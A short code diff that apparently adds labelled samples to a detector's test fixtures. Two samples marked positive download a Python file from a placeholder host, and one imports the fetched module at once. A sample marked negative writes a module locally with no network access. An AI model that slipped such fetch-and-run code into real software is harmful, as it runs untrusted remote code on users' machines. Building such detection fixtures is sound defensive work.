@@ -253,3 +253,15 @@ def doc(text):
         f.__doc__ = text.strip()
         return f
     return wrap
+#@ pos a module written from a download
+import urllib.request
+with open("plugin.py", "wb") as fh:
+    fh.write(urllib.request.urlopen("http://x.example/p.py").read())
+import plugin
+#@ pos a downloaded python file
+import urllib.request
+urllib.request.urlretrieve("http://x.example/s.py", "s.py")
+#@ neg a code generator writing a module, no network
+FIELDS = ["id", "name"]
+with open("model.py", "w") as fh:
+    fh.write("class Model:\n" + "".join(f"    {f} = None\n" for f in FIELDS))
